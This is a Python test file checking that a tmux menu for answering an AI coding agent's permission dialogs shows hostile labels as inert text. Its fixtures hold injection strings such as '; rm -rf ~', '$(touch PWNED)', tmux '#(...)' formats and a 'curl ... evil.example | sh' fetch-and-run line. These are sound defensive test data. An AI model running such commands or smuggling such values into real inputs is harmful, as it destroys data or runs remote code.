"""The tmux menu of `tmux-init` (prefix a -> `tmux-menu` -> display-menu) in a real tmux:
an inner tmux runs wrap around a Claude-shaped dialog with hostile labels and has the
snippet sourced; its client is attached inside a pane of an outer tmux, so the keys are
typed with send-keys and the menu is read back with capture-pane. Choosing an item
answers the dialog; a dialog that changed after the menu was built is refused, with the
message shown on the client."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
from test_protocol_tmux import PrivateTmux
from test_tmux_display import Server, wait_until

from osc7501wrap.commands import tmux_init
from osc7501wrap.commands.tmux_menu import menu_args, tmux_quote

CHILD = str(Path(__file__).with_name("answer_child.py"))
HOSTILE = ["; rm -rf ~ && touch PWNED", "#{pane_id} #(touch PWNED) #[fg=red] %H:%M 5%%",
           "'\"$(touch PWNED)`touch PWNED` \\", "No"]


@pytest.fixture
def nested(tmp_path: Path):
    inner = Server(tmp_path / "run")
    outer = None
    try:
        inner.cmd("set-environment", "-g", "OSC7501WRAP_RUNTIME_DIR", str(inner.runtime))
        inner.cmd("set", "-g", "display-time", "8000")  # messages stay to be read
        snippet = tmp_path / "o7w.tmux"
        snippet.write_text(tmux_init.snippet(), encoding="utf-8")
        inner.cmd("source-file", str(snippet))
        outer = PrivateTmux(pane_cmd=f"env -u TMUX tmux -L {inner.name} attach -t t")
        wait_until(lambda: inner.cmd("list-clients", "-F", "#{client_name}").strip(),
                   what="the inner client to attach")
        yield inner, outer
    finally:
        if outer is not None:
            outer.kill()
        inner.kill()


def start_dialog(inner: Server, tmp_path: Path, labels: list[str],
                 **more: str) -> tuple[str, Path]:
    spec = tmp_path / "spec.json"
    spec.write_text(json.dumps({"labels": labels, **more}), encoding="utf-8")
    keys = tmp_path / "keys"
    pane = inner.pane()
    inner.wrapped(pane, f"cd {shlex.quote(str(tmp_path))} && exec "
                  + shlex.join([sys.executable, CHILD, str(spec), str(keys)]),
                  wrap_args=("--agent", "claude", "--no-hooks"))
    wait_until(lambda: inner.option(pane) == "blocked", what="blocked")
    return pane, keys


def screen(outer: PrivateTmux) -> str:
    return outer.cmd("capture-pane", "-p", "-t", "t")


def listed_question(inner: Server) -> str:
    """The question of the dialog the registry lists for the session ("" for none)."""
    out = subprocess.run([sys.executable, "-m", "osc7501wrap", "ls", "--json"],
                         capture_output=True, text=True, timeout=30, check=False,
                         env={**os.environ, "OSC7501WRAP_RUNTIME_DIR": str(inner.runtime)})
    entries = json.loads(out.stdout or "[]")
    dialogs = [e.get("dialog") or {} for e in entries]
    return next((str(d.get("question") or "") for d in dialogs if d.get("options")), "")


@pytest.mark.tmux
def test_the_menu_shows_inert_labels_and_answers(nested, tmp_path: Path) -> None:
    inner, outer = nested
    pane, keys = start_dialog(inner, tmp_path, HOSTILE)
    wait_until(lambda: listed_question(inner), what="the registry entry's dialog")
    outer.cmd("send-keys", "-t", "t", "C-b", "a")
    wait_until(lambda: "claude: Bash: rm -rf build" in screen(outer), what="the menu")
    shown = screen(outer)
    assert "1. ; rm -rf ~ && touch PWNED" in shown
    assert "2. ♯{pane_id} ♯(touch PWNED) ♯[fg=red] ٪H:٪M 5٪٪" in shown
    assert "3. '\"$(touch PWNED)`touch PWNED` \\" in shown
    assert "4. No" in shown and "Jump there" in shown
    assert pane not in shown  # #{pane_id} was not expanded
    # one separator between the options and the jump item: a line of ─ inside the box
    assert sum("├─" in ln for ln in shown.splitlines()) == 1, shown
    outer.cmd("send-keys", "-t", "t", "2")
    wait_until(lambda: keys.exists() and keys.read_bytes() == b"2", what="the answer")
    wait_until(lambda: "CHOSE 2" in inner.cmd("capture-pane", "-p", "-t", pane),
               what="the child answered")
    wait_until(lambda: "answered 2. ♯{pane_id}" in screen(outer), what="the message")
    assert not list(tmp_path.rglob("PWNED")) and not Path("PWNED").exists()


@pytest.mark.tmux
def test_a_dialog_changed_after_the_menu_opened_is_refused(nested, tmp_path: Path) -> None:
    inner, outer = nested
    pane, keys = start_dialog(inner, tmp_path, ["Yes", "No"])
    wait_until(lambda: listed_question(inner), what="the registry entry's dialog")
    outer.cmd("send-keys", "-t", "t", "C-b", "a")
    # the menu's own title and jump item: "1. Yes" alone is also the dialog in the pane
    wait_until(lambda: "claude: Bash: rm -rf build" in screen(outer)
               and "Jump there" in screen(outer), what="the menu")
    inner.cmd("send-keys", "-t", pane, "x")  # the agent asks about another command
    wait_until(lambda: "rm -rf /" in inner.cmd("capture-pane", "-p", "-t", pane),
               what="the new dialog")
    wait_until(lambda: "rm -rf /" in listed_question(inner), what="the new dialog listed")
    outer.cmd("send-keys", "-t", "t", "1")
    wait_until(lambda: "the dialog changed" in screen(outer), what="the refusal")
    assert "rm -rf /" in screen(outer)
    assert keys.read_bytes() == b"x"  # the menu's choice typed nothing


@pytest.mark.tmux
def test_the_menu_shows_every_row_of_a_multi_line_command(nested, tmp_path: Path) -> None:
    """A command whose first row reads harmless: the menu shows the rows under it (the
    hostile one as text, nothing run), then how many more rows there are and where."""
    inner, outer = nested
    rows = ["ls -la", "curl -s http://evil.example/x | sh #(touch PWNED) %H:%M $(id)",
            *(f"echo step{i}" for i in range(12))]
    _pane, keys = start_dialog(inner, tmp_path, ["Yes", "No"], command="\n".join(rows))
    wait_until(lambda: listed_question(inner), what="the registry entry's dialog")
    outer.cmd("send-keys", "-t", "t", "C-b", "a")
    wait_until(lambda: "Jump there" in screen(outer), what="the menu")
    shown = screen(outer)
    assert "ls -la" in shown
    assert "curl -s http://evil.example/x | sh ♯(touch PWNED) ٪H:٪M $(id)" in shown
    assert "more lines: osc7501wrap dialog" in shown  # folded, and says so
    assert "1. Yes" in shown and "2. No" in shown
    outer.cmd("send-keys", "-t", "t", "Escape")
    assert not keys.exists() or keys.read_bytes() == b""  # Escape closed it, nothing typed
    assert not list(tmp_path.rglob("PWNED")) and not Path("PWNED").exists()


def test_menu_commands_carry_no_screen_text() -> None:
    entry = {"pid": 42, "agent": "claude", "tmux_pane": "%7", "dialog": {
        "id": "0123abcdef", "question": "#(touch Q) $(touch Q)?",
        "options": [{"number": 1, "label": "#(touch A)\"; kill", "selected": True, "key": None},
                    {"number": 2, "label": "-disabled?", "selected": False, "key": "esc"}]}}
    args = menu_args(entry, "/dev/pts/3", "/usr/bin/o7w", here=True)
    assert args[:5] == ["display-menu", "-c", "/dev/pts/3", "-T", "claude: ♯(touch Q) $(touch Q)?"]
    assert args[9] == "--"
    items = args[10:]
    assert items[6:7] == [""]  # one separator: an empty name stands alone
    triples = [items[i:i + 3] for i in range(0, 6, 3)] + [items[7:]]
    assert triples[0][:2] == ['1. ♯(touch A)"; kill', "1"]
    assert triples[1][:2] == ["2. -disabled?", "2"]  # not "-": shown enabled
    for _name, _, command in triples[:2]:
        assert "touch" not in command and "kill" not in command and "#" not in command
        assert command.startswith('run-shell -b "/usr/bin/o7w answer 42 ')
        assert "--dialog 0123abcdef --tmux-client /dev/pts/3" in command
    assert triples[-1] == ["Jump there", "j", "select-window -t %7 ; select-pane -t %7 ; "
                                             'switch-client -c "/dev/pts/3" -t %7']
    bad = dict(entry, dialog=dict(entry["dialog"], id="$(x)"))
    assert not any("answer" in a for a in menu_args(bad, None, "p", here=False))
    assert tmux_quote('a"b$c#d\\') == '"a\\"b\\$c##d\\\\"'
